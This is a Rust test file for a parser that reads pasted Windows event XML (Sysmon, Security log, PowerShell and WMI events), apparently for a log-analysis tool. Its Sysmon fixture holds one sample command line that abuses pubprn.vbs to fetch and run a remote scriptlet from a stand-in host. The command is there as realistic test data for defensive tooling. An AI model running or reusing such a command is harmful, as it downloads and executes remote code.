//! Windows event XML as people paste it: fields, kinds, places, mixtures and windows.

use cutout_core::event::{Event, Field, Format, Reader, Value};
use cutout_core::text::Diagnostic;

fn read(text: &str) -> (Vec<Event>, Vec<Diagnostic>) {
    let (mut events, mut diagnostics) = (Vec::new(), Vec::new());
    let mut reader = Reader::new(text, None);
    while reader.read(3, &mut events, &mut diagnostics) {}
    (events, diagnostics)
}

/// Reads a text through windows of `size` bytes, longer ones where a record asks for it.
fn windowed(text: &str, size: usize) -> (Vec<Event>, Vec<Diagnostic>) {
    let (mut events, mut diagnostics) = (Vec::new(), Vec::new());
    let mut reader = Reader::windowed(None);
    let (mut start, mut end) = (0, 0);
    while end < text.len() {
        end = text.ceil_char_boundary(end + size);
        reader.feed(&text[start..end], end == text.len());
        while reader.read(3, &mut events, &mut diagnostics) {}
        start += reader.position();
    }
    assert_eq!(start, text.len());
    (events, diagnostics)
}

fn value<'e>(event: &'e Event, name: &str) -> &'e str {
    let known = event.get(&Field::new(name));
    known
        .and_then(|known| known.value.text())
        .unwrap_or("(none)")
}

const SYSMON: &str = r#"<?xml version="1.0" encoding="utf-8" standalone="yes"?>
<Events>
  <Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event">
    <System>
      <Provider Name="Microsoft-Windows-Sysmon" Guid="{5770385f-c22a-43e0-bf4c-06f5698ffbd9}" />
      <EventID>1</EventID>
      <TimeCreated SystemTime="2026-03-04T05:06:07.123456700Z" />
      <EventRecordID>42</EventRecordID>
      <Correlation />
      <Channel>Microsoft-Windows-Sysmon/Operational</Channel>
      <Computer>pc1.example.com</Computer>
    </System>
    <EventData>
      <Data Name="ProcessGuid">{00000000-0000-0000-0000-000000000001}</Data>
      <Data Name="Image">C:\Windows\System32\cscript.exe</Data>
      <Data Name="CommandLine">cscript.exe  "C:\t &amp; t\pubprn.vbs" 127.0.0.1 script:https://example.com/a.sct </Data>
      <Data Name="ParentImage">C:\Windows\explorer.exe</Data>
    </EventData>
    <RenderingInfo Culture="en-US"><Message>Process Create:</Message></RenderingInfo>
  </Event>
</Events>"#;

#[test]
fn a_process_creation_of_sysmon() {
    let (events, diagnostics) = read(SYSMON);
    assert_eq!((events.len(), diagnostics), (1, vec![]));
    let event = &events[0];
    assert_eq!(
        (event.format, event.line, event.partial),
        (Format::EventXml, 3, false)
    );
    assert_eq!(event.kind.title(), "process_creation");
    assert!(
        event.span.of(SYSMON).starts_with("<Event xmlns")
            && event.span.of(SYSMON).ends_with("</Event>")
    );
    for (name, expected) in [
        ("EventID", "1"),
        ("Provider_Name", "Microsoft-Windows-Sysmon"),
        ("Computer", "pc1.example.com"),
        ("TimeCreated", "2026-03-04T05:06:07.123456700Z"),
        ("EventRecordID", "42"),
        ("ProcessGuid", "{00000000-0000-0000-0000-000000000001}"),
        (
            "CommandLine",
            r#"cscript.exe  "C:\t & t\pubprn.vbs" 127.0.0.1 script:https://example.com/a.sct "#,
        ),
        ("process_name", "cscript.exe"),
        ("Message", "Process Create:"),
        ("Correlation", "(none)"),
    ] {
        assert_eq!(value(event, name), expected, "{name}");
    }
}

#[test]
fn a_process_creation_of_the_security_log_as_splunk_keeps_it() {
    let raw = "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='Microsoft-Windows-Security-Auditing' Guid='{54849625-5478-4994-A5BA-3E3B0328C30D}'/><EventID>4688</EventID><Channel>Security</Channel></System><EventData><Data Name='NewProcessId'>0xf84</Data><Data Name='NewProcessName'>C:\\Windows\\System32\\cmd.exe</Data><Data Name='ProcessId'>0xb2c</Data><Data Name='CommandLine'>cmd /c \"a\"</Data><Data Name='TargetUserName'>-</Data></EventData></Event>";
    let (events, diagnostics) = read(&format!("{raw}\n{raw}{raw}"));
    assert_eq!((events.len(), diagnostics), (3, vec![]));
    for (event, line) in events.iter().zip([1, 2, 2]) {
        assert_eq!((event.kind.title(), event.line), ("process_creation", line));
        let shown =
            ["ProcessId", "ParentProcessId", "Image", "CommandLine"].map(|name| value(event, name));
        assert_eq!(
            shown,
            [
                "0xf84",
                "0xb2c",
                "C:\\Windows\\System32\\cmd.exe",
                "cmd /c \"a\""
            ]
        );
    }
}

#[test]
fn data_without_names_and_user_data() {
    let (events, _) = read(
        "<Event><System><EventID Qualifiers='0'>400</EventID><Channel>Windows PowerShell</Channel></System><EventData><Data>Available</Data><Data>None</Data><Binary></Binary></EventData></Event>\
        <Event><System><EventID>5858</EventID><Channel>Microsoft-Windows-WMI-Activity/Operational</Channel></System><UserData><Operation_ClientFailure xmlns='x'><User>u</User><Id>3</Id></Operation_ClientFailure></UserData></Event>",
    );
    assert_eq!(events[0].kind.title(), "ps_classic_start");
    assert_eq!(
        events[0].get(&Field::new("Data")).unwrap().value,
        Value::Many(vec!["Available".into(), "None".into()])
    );
    assert_eq!(
        (value(&events[1], "User"), value(&events[1], "Id")),
        ("u", "3")
    );
}

#[test]
fn an_excerpt_keeps_its_names() {
    let (events, _) = read(
        "<Event><EventData><Data Name='Image'>C:\\a.exe</Data></EventData></Event><Event><a><b>1</b></a></Event>",
    );
    assert_eq!(
        (value(&events[0], "Image"), value(&events[1], "a.b")),
        ("C:\\a.exe", "1")
    );
}

#[test]
fn of_an_event_that_is_cut_off_the_rest_is_unknown() {
    let cut = SYSMON.find("<Data Name=\"ParentImage\">").unwrap() + 30;
    let (events, diagnostics) = read(&SYSMON[..cut]);
    assert_eq!((events.len(), events[0].partial), (1, true));
    assert!(value(&events[0], "CommandLine").starts_with("cscript.exe"));
    let told: Vec<String> = diagnostics.iter().map(ToString::to_string).collect();
    assert_eq!(
        told,
        [
            "error[xml-open] 3:3: This event is cut off inside `<Data>`: what was read before counts, and what would follow is unknown.; help: Perhaps the end of the text is missing, or a closing tag."
        ]
    );
}

#[test]
fn a_mixture_is_split_and_windows_change_nothing() {
    let event = "<Event><EventData><Data Name='Image'>é</Data></EventData></Event>";
    let broken = "<Event><EventData><Data Name='Image'>x</Data><Data Name='CommandLine>y</Data></EventData></Event>";
    let text = format!(
        "whoami\n{event}\n{broken}\n{event}\n<!-- c -->\n\ncscript a.vbs\n{{\"Image\": \"x\"}}\n<Events>\n{event}{event}\n</Events>\nhostname\n<Event><System><EventID>1"
    );
    let whole = read(&text);
    let lines: Vec<u32> = whole.0.iter().map(|event| event.line).collect();
    assert_eq!(lines, [1, 2, 3, 4, 7, 8, 10, 10, 12]);
    let said: Vec<_> = whole.1.iter().map(|d| (d.code.as_str(), d.line)).collect();
    assert_eq!(said, [("xml-syntax", 3), ("xml-open", 13)]);
    for size in 1..text.len() {
        let (mut events, diagnostics) = windowed(&text, size);
        for (event, expected) in events.iter_mut().zip(&whole.0) {
            event.span = expected.span;
        }
        let said: Vec<_> = diagnostics
            .iter()
            .map(|d| (d.code.as_str(), d.line))
            .collect();
        assert_eq!(
            (said.len(), events == whole.0),
            (2, true),
            "windows of {size} bytes: {said:?}"
        );
    }
}
